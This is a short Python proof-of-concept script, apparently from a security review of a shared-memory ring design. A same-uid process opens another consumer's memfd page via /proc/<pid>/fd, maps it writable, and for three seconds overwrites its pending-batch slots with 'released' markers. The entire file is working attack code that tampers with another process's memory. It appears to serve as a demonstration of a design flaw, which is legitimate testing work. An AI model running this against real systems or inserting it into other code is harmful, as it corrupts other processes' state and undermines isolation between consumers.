# Same-uid process opens an honest consumer's own page through /proc/<pid>/fd and marks
# every live batch released (the v3 "clear another consumer's pending bit").
import sys, os, mmap, struct, time
pid = sys.argv[1]
names = {f: os.readlink("/proc/%s/fd/%s" % (pid, f)) for f in os.listdir("/proc/%s/fd" % pid)}
print({f: n for f, n in names.items() if "memfd" in n})
page = [f for f, n in names.items() if "page" in n][0]
ctl = [f for f, n in names.items() if "control" in n or "ring" in n or "seg" in n]
fd = os.open("/proc/%s/fd/%s" % (pid, page), os.O_RDWR)
pg = mmap.mmap(fd, os.fstat(fd).st_size)
cfd = os.open("/proc/%s/fd/%s" % (pid, ctl[0]), os.O_RDONLY)
c = mmap.mmap(cfd, os.fstat(cfd).st_size, prot=mmap.PROT_READ)
N = struct.unpack_from("<I", c, 24)[0]
t0 = time.time(); n = 0
while time.time() - t0 < 3:
    h = struct.unpack_from("<Q", c, 128)[0]
    for s in range(max(0, h - N), h):
        struct.pack_into("<Q", pg, 256 + 8 * (s % N), (s + 1) << 1); n += 1
    time.sleep(0.0002)
print("wrote %d released words into consumer %s's page" % (n, pid))
